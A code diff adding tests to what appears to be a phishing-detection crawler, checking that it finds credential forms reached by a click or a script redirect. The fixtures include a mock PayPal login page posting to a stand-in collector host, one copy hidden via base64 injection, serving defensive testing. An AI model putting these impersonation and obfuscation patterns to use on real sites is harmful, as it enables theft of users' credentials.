@@ -159,3 +159,30 @@ test('no proxy of the environment is used, even by a child of a process that has
   expect(await parent.finish()).toBe(0)
   expect([parent.stdout.lines, asked]).toEqual([['report'], 0])
 })
+
+describe('what a visitor would come to by a click is judged as well [T9]', () => {
+  const form = '<form action="https://collector.example.net/"><input type=email><input type=password></form>'
+  const button = (code: string) =>
+    `<!doctype html><title>Document</title><button onclick="${code}">View</button>`
+  const kit = page(`<!doctype html><title>PayPal: Log in</title><h1>PayPal</h1>${form}`)
+
+  test.each([
+    ['in the page itself', { '/': page(button(`document.body.innerHTML=atob('${btoa(form)}')`)) }],
+    ['on the page that it leads to', { '/': page(button("location='/next'")), '/next': kit }],
+    [
+      'on a page that an external script leads to',
+      {
+        '/': page('<!doctype html><title>Wait</title><script src="/go.js"></script>'),
+        '/go.js': page("setTimeout(()=>location.replace('/next'),900)", 200, {
+          'content-type': 'text/javascript',
+        }),
+        '/next': kit,
+      },
+    ],
+  ])('a form %s', async (_, answers) => {
+    await using led = await startSite(answers)
+    const { page: shown, coverage } = reportOf<Report>(await visit(`http://127.0.0.1:${led.port}/`))
+    expect(shown).toMatchObject({ forms: 1, credential_fields: ['password'] })
+    expect(coverage.scripts).toMatchObject({ failed: 0, cut: null })
+  })
+})
